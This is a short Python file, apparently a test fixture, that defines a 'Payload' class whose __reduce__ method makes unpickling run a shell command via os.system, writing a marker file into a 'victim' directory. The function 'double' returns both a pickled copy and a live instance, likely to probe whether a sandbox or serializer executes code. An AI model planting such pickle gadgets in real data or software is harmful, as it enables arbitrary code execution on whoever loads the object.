import os


class Payload:
    def __reduce__(self):
        return os.system, ("echo owned > '@WORLD@/victim/owned'",)


def double(x):
    import pickle

    return [pickle.dumps(Payload()), Payload()]
